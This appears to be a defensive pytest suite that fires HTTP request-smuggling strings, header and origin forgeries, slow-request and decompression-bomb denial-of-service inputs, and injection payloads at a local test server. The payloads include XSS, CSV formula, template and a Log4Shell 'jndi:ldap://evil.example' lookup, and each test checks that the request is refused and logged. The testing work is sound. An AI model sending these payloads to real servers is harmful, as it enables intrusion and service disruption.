"""A corpus of attacks on a server: what is sent, what it is refused with, and that it is noted."""

from __future__ import annotations

import gzip
import json
import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest

from ringroad.service.access import COOKIE
from ringroad.service.roles import SCOPES
from ringroad.service.settings import ServiceSettings
from service_kit import API, Served, copied, serve
from service_places import furnish

HASTY = ServiceSettings(port=0, body_s=1.0, head_s=1.0)
JSON = "Content-Type: application/json\r\n"


@pytest.fixture(scope="module")
def target(demo_workspace: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("attacked") / "workspace"
    copied(demo_workspace.folder, folder)
    for served in serve(folder, HASTY):
        furnish(served)
        yield served


def noted(served: Served) -> list[tuple[str, int, str]]:
    served.service.refusals.settle()  # so that what comes next is the first of its kind
    entries = served.service.audit.entries(limit=1_000_000)
    return [(item.operation, item.status, item.code) for item in entries]


def wait_noted(served: Served, before: int, code: str) -> None:
    """The note of what was no request comes from another thread."""
    until = time.monotonic() + 5
    while time.monotonic() < until:
        if any(item[2] == code for item in noted(served)[before:]):
            return
        time.sleep(0.01)
    raise AssertionError(f"{code} is not noted: {noted(served)[before:]}")


def send(served: Served, text: str, *, wait_s: float = 5.0) -> tuple[int, str]:
    """What is typed into a socket; status 0 where the connection is closed without a word."""
    name, _, port = served.host.rpartition(":")
    bearer = f"Authorization: {served.client.headers['authorization']}\r\n"
    text = text.replace("{host}", f"Host: {served.host}\r\n").replace("{me}", bearer)
    with socket.create_connection((name, int(port)), timeout=wait_s) as connection:
        connection.sendall(text.encode("latin-1"))
        data = b""
        try:
            while part := connection.recv(65536):
                data += part
        except (TimeoutError, ConnectionResetError):
            pass
    return (int(data.split()[1]) if data else 0), data.decode("latin-1")


NO_HTTP = {
    "two lengths that differ": "{host}{me}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
    "a length with a sign": "{host}{me}Content-Length: +2\r\n\r\n{}",
    "a coding that is none": "{host}{me}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "a coding on top": "{host}{me}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "a space before the colon": "Host : evil.example\r\n{me}\r\n",
    "a null in a header": "{host}X-A: a\0b\r\n\r\n",
    "a header without a name": "{host}: x\r\n\r\n",
    "a carriage return in a header": "{host}X-A: a\rHost: evil.example\r\n\r\n",
    "two hosts": "{host}Host: evil.example\r\n\r\n",
    "no host": "\r\n",
    "a header without an end": "{host}X-A: " + "a" * 200_000 + "\r\n\r\n",
    "a chunk that is no number": "{host}{me}" + JSON + "Transfer-Encoding: chunked\r\n\r\nzz\r\n",
    "a chunk of minus one": "{host}{me}" + JSON + "Transfer-Encoding: chunked\r\n\r\n-1\r\n",
}


@pytest.mark.parametrize("name", NO_HTTP)
def test_what_is_no_http_is_refused_and_noted(target: Served, name: str):
    before = len(noted(target))
    status, text = send(target, f"POST {API}/checks HTTP/1.1\r\n{NO_HTTP[name]}")
    assert status in {400, 413, 421, 431, 501}, text
    assert text.count("HTTP/1.1 ") == 1, "a second request was smuggled in"
    wait_noted(target, before, "unknown-host" if "421" in text[:20] else "bad-request")


@pytest.mark.parametrize("first", ["PRI * HTTP/2.0", "GET",
                                   f"GET {API}/me x HTTP/1.1", "\x16\x03\x01\x02",
                                   f"G\tT {API}/me HTTP/1.1", f"GET {API}/m\0 HTTP/1.1",
                                   "GET /" + "a" * 200_000 + " HTTP/1.1"])  # fmt: skip
def test_first_lines_that_are_none(target: Served, first: str):
    before = len(noted(target))
    status, _ = send(target, f"{first}\r\n{{host}}{{me}}\r\n")
    assert status in {400, 404, 405, 505}
    if status == 400:
        wait_noted(target, before, "bad-request")


def test_a_length_beside_a_coding_smuggles_nothing(target: Served):
    """Proxies and servers that disagree about the end of a body let a second request in."""
    before = len(noted(target))
    inner = f"DELETE {API}/tokens/x HTTP/1.1\r\n{{host}}{{me}}\r\n"
    status, text = send(
        target,
        f"POST {API}/checks HTTP/1.1\r\n{{host}}{{me}}{JSON}Content-Length: 4\r\n"
        f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
    )
    assert status == 400
    assert text.count("HTTP/1.1 ") == 1
    assert all(item[0] != "revoke_token" for item in noted(target)[before:])
    wait_noted(target, before, "bad-request")


@pytest.mark.parametrize("path", ["http://evil.example/api/v1/me", "//evil.example/api/v1/me",
                                  "/%2e%2e/api/v1/me", "/./api/v1/me", "*",
                                  "evil.example:443"])  # fmt: skip
def test_an_address_in_another_form_is_no_way_in(target: Served, path: str):
    """It is a page at most, never an operation without a token."""
    _, text = send(target, f"GET {path} HTTP/1.1\r\n{{host}}\r\n", wait_s=0.3)
    assert '"role"' not in text


def test_a_socket_is_not_taken_over(target: Served):
    upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    status, _ = send(target, f"GET {API}/me HTTP/1.1\r\n{{host}}{upgrade}\r\n", wait_s=0.5)
    assert status == 401


def test_a_body_that_comes_slowly_is_given_up(target: Served):
    before, begun = len(noted(target)), time.monotonic()
    head = f"POST {API}/checks HTTP/1.1\r\n{{host}}{{me}}{JSON}Content-Length: 100\r\n\r\n{{"
    status, text = send(target, head, wait_s=10)
    assert (status, "too-slow" in text) == (408, True)
    assert time.monotonic() - begun < 5
    wait_noted(target, before, "too-slow")


@pytest.mark.parametrize("text", ["", "G", f"GET {API}/me HTTP/1.1\r\nHos"])
def test_a_head_that_does_not_end_holds_nothing_open(target: Served, text: str):
    begun = time.monotonic()
    assert send(target, text, wait_s=10)[0] == 0
    assert time.monotonic() - begun < 5


def test_a_head_that_drips_holds_nothing_open(target: Served):
    name, _, port = target.host.rpartition(":")
    begun = time.monotonic()
    with socket.create_connection((name, int(port)), timeout=5) as connection:
        try:
            while time.monotonic() - begun < 8:
                connection.sendall(b"G")
                time.sleep(0.1)
        except OSError:
            pass
    assert time.monotonic() - begun < 5


def test_a_slow_reader_and_a_follower_are_not_slow_writers(target: Served):
    """Answers may take longer than heads and bodies may."""
    name, _, port = target.host.rpartition(":")
    bearer = target.client.headers["authorization"]
    with socket.create_connection((name, int(port)), timeout=5) as connection:
        request = f"GET {API}/search HTTP/1.1\r\nHost: {target.host}\r\nAuthorization: {bearer}\r\n"
        connection.sendall(f"{request}Accept: application/x-ndjson\r\n\r\n".encode())
        time.sleep(2.5)
        assert connection.recv(1000).startswith(b"HTTP/1.1 200")


BOMBS: dict[str, tuple[str, bytes, dict[str, str]]] = {
    "packed": ("/checks", gzip.compress(b'{"recordings": []}' + b" " * 50_000_000),
               {"content-encoding": "gzip"}),
    "more than may be": ("/checks", b" " * (9 << 20), {}),
    "deep": ("/checks", b"[" * 100_000, {}),
    "a long number": ("/plans", b'{"model": "x", "threads": ' + b"9" * 5_000_000 + b"}", {}),
    "a long name": ("/tokens", json.dumps({"who": "x" * 1_000_000, "role": "viewer"}).encode(), {}),
    "many names": ("/checks", json.dumps({"recordings": ["x"] * 200_000}).encode(), {}),
    "many frames": ("/selections/x", json.dumps({"frames": ["a/b/1"] * 10_001}).encode(), {}),
    "many keys": ("/checks", json.dumps({f"k{n}": 0 for n in range(100_000)}).encode(), {}),
    "a form": ("/checks", b"recordings=x", {"content-type": "application/x-www-form-urlencoded"}),
    "parts": ("/checks", b"--x\r\n\r\n{}\r\n--x--", {"content-type": "multipart/form-data"}),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_bodies_that_swell_are_refused_and_noted(target: Served, name: str):
    path, body, headers = BOMBS[name]
    before, begun = len(noted(target)), time.monotonic()
    answer = target.ask(
        "POST", path, content=body, headers={"content-type": "application/json", **headers}
    )
    assert answer.status_code in {400, 404, 413, 415, 422}, answer.text
    assert len(answer.text) < 20_000, "a refusal does not send the attack back"
    assert time.monotonic() - begun < 5
    assert any(item[1] == answer.status_code for item in noted(target)[before:])


@pytest.mark.parametrize("marks", [10_001, 3])
def test_an_answer_that_swells_is_refused(target: Served, marks: int):
    box = {"category": "car", "x": 1, "y": 1, "w": 2, "h": 2}
    huge = {**box, "mask": "A" * 4_000_001} if marks == 3 else box
    body = {"token": 1, "marks": [huge] * (1 if marks == 3 else marks)}
    answer = target.ask("POST", "/labelling/tasks/x:submit", json=body)
    assert answer.status_code == 422
    assert len(answer.text) < 20_000


@pytest.mark.parametrize("sql", ["(select count(*) from range(100000000000)) > 0",
                                 "list_sum(range(1000000000)) > 1",
                                 "len(repeat('x', 2000000000)) > 1"])  # fmt: skip
def test_a_query_takes_neither_all_memory_nor_all_time(target: Served, sql: str):
    begun, text = time.monotonic(), sql.replace("'", "''")
    answer = target.ask("GET", "/search", params={"q": f"sql('{text}')"})
    assert (answer.status_code, answer.json()["code"]) == (400, "usage")
    assert time.monotonic() - begun < 5


@contextmanager
def signed_in(served: Served, token: str) -> Iterator[httpx.Client]:
    with served.stranger as browser:
        browser.post("/enter", json={"token": token})
        yield browser


FOREIGN = [
    {"origin": "https://evil.example"},
    {"origin": "null"},
    {"origin": "http://127.0.0.1:1"},
    {"origin": "http://localhost.evil.example"},
    {"sec-fetch-site": "cross-site"},
    {"sec-fetch-site": "same-site"},
    {},
]
WRITES = [
    ("POST", "/tokens", {"who": "x", "role": "admin"}),
    ("DELETE", "/tokens/x", None),
    ("POST", "/datasets/demo", {"remove": ["x"]}),
    ("POST", "/aliases/demo:champion", {"artifact": "x"}),
    ("POST", "/labelling/turns", {}),
]


@pytest.mark.parametrize("headers", FOREIGN)
def test_a_page_of_another_origin_sends_no_write(target: Served, headers: dict[str, str]):
    with signed_in(target, target.token("admin")) as browser:
        for method, path, body in WRITES:
            before = len(noted(target))
            answer = browser.request(method, API + path, json=body, headers=headers)
            assert (answer.status_code, answer.json()["code"]) == (403, "other-origin"), path
            assert noted(target)[before:][-1][1:] == (403, "other-origin")


def test_other_tricks_of_pages(target: Served):
    with signed_in(target, target.token("admin")) as browser:
        before = target.get("/tokens")["count"]
        trick = {"x-http-method-override": "DELETE", "x-method-override": "DELETE"}
        assert browser.get(f"{API}/tokens", headers=trick).status_code == 200
        assert target.get("/tokens")["count"] == before
        asked = {"origin": "https://evil.example", "access-control-request-method": "POST"}
        preflight = browser.options(f"{API}/tokens", headers=asked)
        assert preflight.status_code in {403, 405}
        answers = [preflight, browser.get(f"{API}/me", headers={"origin": "https://evil.example"})]
        for answer in answers:
            assert not [name for name in answer.headers if name.startswith("access-control")]
        assert browser.get(f"{API}/me", params={"callback": "x"}).status_code == 422
        forged = {"x-forwarded-host": "evil.example", "x-forwarded-for": "10.0.0.1",
                  "forwarded": "host=evil.example", "x-original-url": "/api/v1/tokens"}  # fmt: skip
        answer = browser.get(f"{API}/me", headers=forged)
        assert "evil" not in answer.text + str(answer.headers)


@pytest.mark.parametrize("way", ["query", "basic", "lower", "cookie", "body", "twice"])
def test_a_token_counts_in_its_place_alone(target: Served, way: str):
    secret = target.token("admin")
    options: dict[str, dict[str, Any]] = {
        "query": {"params": {"access_token": secret, "token": secret}},
        "basic": {"headers": {"authorization": f"Basic {secret}"}},
        "lower": {"headers": {"authorization": f"Bearer {secret.lower()}"}},
        "cookie": {"headers": {"cookie": f"{COOKIE}={secret}"}},
        "body": {"headers": {"x-token": secret, "x-api-key": secret}},
        "twice": {"headers": {"authorization": f"Bearer {secret}, Bearer {secret}"}},
    }
    before = len(noted(target))
    with target.stranger as stranger:
        assert stranger.get(f"{API}/me", **options[way]).status_code == 401
    assert noted(target)[before:] == [("who_am_i", 401, "not-signed-in")]


def test_a_printed_word_lets_one_of_many_in(target: Served):
    address = target.service.address()

    def enter(_: int) -> int:
        with target.stranger as browser:
            return browser.get(address).status_code

    with ThreadPoolExecutor(8) as pool:
        assert sorted(pool.map(enter, range(16))) == [200, *[401] * 15]


def test_a_cookie_that_was_planted_is_not_taken_up(target: Served):
    with target.stranger as browser:
        browser.cookies.set(COOKIE, "rr_planted")
        answer = browser.post("/enter", json={"token": target.token("viewer")})
        assert "rr_planted" not in answer.headers["set-cookie"]
        tls = {"origin": f"https://{target.host}"}
        again = browser.post("/enter", json={"token": target.token("viewer")}, headers=tls)
        assert "secure" in again.headers["set-cookie"].lower()


def test_who_listens_is_cut_off_when_the_token_is_taken_back(target: Served):
    """A stream of events is no way to stay."""
    made = target.ask("POST", "/tokens", json={"who": "Ida", "role": "viewer"}).json()
    operations, heard = target.service.operations, threading.Event()
    wait = threading.Event()
    operations._work_of = lambda _: lambda *_: {"waited": wait.wait(20)}  # type: ignore[assignment]
    at = operations.submit("check-recordings", {"recordings": []}, "Ada").id
    begun = time.monotonic()
    try:
        with target.stranger as stranger, stranger.stream(
            "GET", f"{API}/operations/{at}/events", timeout=10,
            headers={"authorization": f"Bearer {made['secret']}"},
        ) as stream:  # fmt: skip
            for part in stream.iter_text():
                if "running" in part and not heard.is_set():
                    heard.set()
                    target.ask("DELETE", f"/tokens/{made['token']['id']}")
        assert heard.is_set()
        assert operations.get(at).state == "running", "the stream ended before the work did"
        assert time.monotonic() - begun < 10
    finally:
        wait.set()


def test_events_and_lists_of_others_take_what_they_take(target: Served):
    at = target.get("/operations")["items"][0]["id"]
    label_only = target.token("admin", scopes=("label",))
    assert target.ask("GET", f"/operations/{at}/events", token=label_only).status_code == 403
    with target.stranger as stranger:
        assert stranger.get(f"{API}/operations/{at}/events").status_code == 401
    cursor = target.get("/tokens", limit=1)["cursor"]
    viewer = target.token("viewer")
    answer = target.ask("GET", "/tokens", params={"cursor": cursor}, token=viewer)
    assert answer.status_code == 403


def test_a_cursor_of_another_workspace_is_none(target: Served, shared: Served):
    cursor = shared.get("/executions", limit=1)["next"]
    answer = target.ask("GET", "/executions", params={"cursor": cursor})
    assert (answer.status_code, answer.json()["code"]) == (400, "cursor")


def test_a_key_shows_no_secret_again(target: Served):
    key, body = {"idempotency-key": "mine"}, {"who": "Gus", "role": "viewer"}
    made = target.ask("POST", "/tokens", json=body, headers=key).json()
    again = target.ask("POST", "/tokens", json=body, headers=key)
    assert (again.status_code, again.json()["code"]) == (409, "told-once")
    assert made["secret"] not in again.text
    files = [path.read_bytes() for path in target.folder.glob("service.sqlite*")]
    assert not [data for data in files if made["secret"].encode() in data]
    other = target.ask(
        "POST", "/selections", json={"name": "mine"}, headers=key, token=target.token(who="Eve")
    )
    assert other.status_code == 201, "keys of others are others"


def test_a_task_of_somebody_else_is_not_touched(target: Served):
    ada, ben = (target.token("labeller", who=who) for who in ("Ada", "Ben"))
    turn = target.ask("POST", "/labelling/turns", token=ada, json={}).json()["turn"]
    held = {"token": turn["token"]}
    at = f"/labelling/tasks/{turn['task']}"
    for verb, body in (("beat", held), ("skip", {**held, "reason": "r"}),
                       ("submit", {**held, "marks": []})):  # fmt: skip
        before = len(noted(target))
        answer = target.ask("POST", f"{at}:{verb}", token=ben, json=body)
        assert (answer.status_code, answer.json()["code"]) == (409, "lease-lost"), verb
        assert noted(target)[before:] == [(f"{verb}_task", 409, "lease-lost")]
    for wrong in (0, turn["token"] + 1, 2**53):
        answer = target.ask("POST", f"{at}:submit", token=ada, json={"token": wrong, "marks": []})
        assert answer.status_code in {409, 422}


@pytest.mark.parametrize("body", [{"who": "x", "role": "ADMIN"}, {"who": "x", "role": "admin\n"},
                                  {"who": "\u202eadmin", "role": "viewer"}, {"who": "a\u0000"},
                                  {"who": "x", "role": "viewer", "scopes": [*SCOPES, "all"]},
                                  {"who": "x", "role": "viewer", "days": 1e308},
                                  {"who": "x", "role": ["admin"]}])  # fmt: skip
def test_no_token_is_made_for_what_is_no_role_or_name(target: Served, body: dict[str, Any]):
    before = target.get("/tokens")["count"]
    answer = target.ask("POST", "/tokens", json={"role": "viewer", **body})
    assert answer.status_code in {400, 422}
    assert target.get("/tokens")["count"] == before


@pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
                                   "<svg onload=alert(1)>", "javascript:alert(1)", "{{7*7}}",
                                   "</script><script>alert(1)</script>", "%0d%0aSet-Cookie:a=b",
                                   "\u2028alert(1)", "${jndi:ldap://evil.example/a}"])  # fmt: skip
def test_names_are_data_wherever_they_are_shown(target: Served, value: str):
    """No answer is a page or a table that a spreadsheet opens, and no header is cut in two."""
    answer = target.ask("POST", "/selections", json={"name": value, "limit": 1})
    assert answer.status_code in {201, 422}
    assert "set-cookie" not in answer.headers
    listed = target.ask("GET", "/selections")
    assert listed.headers["content-type"] == "application/json"
    assert listed.headers["x-content-type-options"] == "nosniff"
    for form in ("text/html", "text/csv", "application/vnd.ms-excel", "image/svg+xml"):
        assert target.ask("GET", "/search", headers={"accept": form}).status_code == 406


def test_a_picture_with_a_script_runs_none(demo_workspace: Any, tmp_path: Path):
    web = tmp_path / "web"
    web.mkdir()
    (web / "index.html").write_text("<!doctype html>")
    (web / "logo.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    copied(demo_workspace.folder, tmp_path / "workspace")
    for served in serve(tmp_path / "workspace", ServiceSettings(port=0, web=web)):
        with served.stranger as browser:
            answer = browser.get("/logo.svg")
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self';" in policy
        assert "default-src 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_a_body_that_breaks_off_is_no_fault(target: Served, caplog: pytest.LogCaptureFixture):
    before = len(noted(target))
    name, _, port = target.host.rpartition(":")
    bearer = target.client.headers["authorization"]
    with socket.create_connection((name, int(port)), timeout=5) as connection:
        head = f"POST {API}/checks HTTP/1.1\r\nHost: {target.host}\r\nAuthorization: {bearer}\r\n"
        connection.sendall(f"{head}{JSON}Content-Length: 100\r\n\r\n{{".encode())
    wait_noted(target, before, "bad-request")
    assert not [said for said in caplog.records if said.levelname == "ERROR"]
